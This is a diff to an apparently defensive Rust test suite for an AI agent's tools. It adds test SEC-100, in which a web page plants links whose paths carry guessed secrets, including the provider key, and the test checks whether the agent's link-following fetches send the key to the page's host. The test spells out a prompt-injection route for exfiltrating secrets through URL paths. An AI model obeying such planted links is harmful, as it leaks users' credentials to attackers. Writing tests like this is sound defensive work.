@@ -2,7 +2,7 @@
 
 use serde_json::json;
 
-use crate::attacks::obedient::{Attack, page};
+use crate::attacks::obedient::{Attack, MARK, page};
 
 /// The key that the home's provider has.
 const KEY: &str = "sk-test-0123456789";
@@ -15,6 +15,20 @@ async fn what_anybody_can_read_is_read_as_it_is() {
     attack.world.done(&["chat", &format!("read {}/", attack.web.url)]).await;
     let newest = attack.newest();
     assert!(newest.contains(KEY) && !newest.contains("[secret "), "{newest}");
+}
+
+// SEC-100
+#[tokio::test]
+async fn a_guess_that_the_model_repeats_is_asked_for_as_it_is() {
+    let read = |web: &str| vec![("web_fetch", json!({ "url": format!("{web}/") }))];
+    let guesses = ["letmein22", KEY, "qwertyui9"];
+    let follow = move |web: &str| guesses.map(|guess| ("web_fetch", json!({ "url": format!("{web}/{guess}") }))).into();
+    let links = format!("{MARK} {}", guesses.map(|guess| format!("http://HOST/{guess}")).join(" "));
+    let attack = Attack::new(read, follow, move |path| page(if path == "/" { &links } else { "tea" })).await;
+    attack.world.done(&["chat", &format!("read {}/", attack.web.url)]).await;
+    let mut visited = attack.web.visited();
+    visited.sort();
+    assert_eq!(visited, ["/", "/letmein22", "/qwertyui9", "/sk-test-0123456789"]);
 }
 
 mod control {
